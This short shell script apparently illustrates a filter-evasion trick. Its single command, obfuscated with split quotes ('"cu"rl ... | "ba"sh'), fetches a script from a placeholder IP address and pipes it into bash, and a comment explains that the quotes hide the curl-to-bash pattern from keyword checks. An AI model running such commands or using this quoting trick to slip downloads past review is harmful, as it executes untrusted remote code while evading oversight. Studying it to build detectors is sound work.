#!/bin/sh
# a shell removes the quotes inside the words: this is curl ... | bash
"cu"rl -s http://203.0.113.7/install.sh | "ba"sh
